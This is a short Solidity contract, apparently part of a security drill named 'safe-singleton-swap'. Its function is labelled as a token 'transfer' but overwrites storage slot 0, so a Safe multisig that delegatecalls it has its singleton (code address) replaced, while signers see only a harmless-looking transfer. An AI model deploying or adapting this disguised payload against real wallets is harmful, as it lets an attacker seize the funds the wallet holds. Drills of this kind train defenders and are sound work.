// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

/// @title Looks like a token, swaps the singleton of whoever delegates to it
/// @notice The first half of the drill `safe-singleton-swap`. On the signer's screen the call reads
/// `transfer(address,uint256)`; only the operation, delegatecall, says what it is. Run in a Safe's own storage it
/// writes slot 0, which is where a Safe proxy keeps the address of its code.
/// @dev Called rather than delegated to, it changes nothing but its own slot.
contract EvilTransfer {
    /// @dev Slot 0: in a Safe proxy, the singleton.
    address private _singleton;

    function transfer(address recipient, uint256) external returns (bool) {
        _singleton = recipient;
        return true;
    }
}
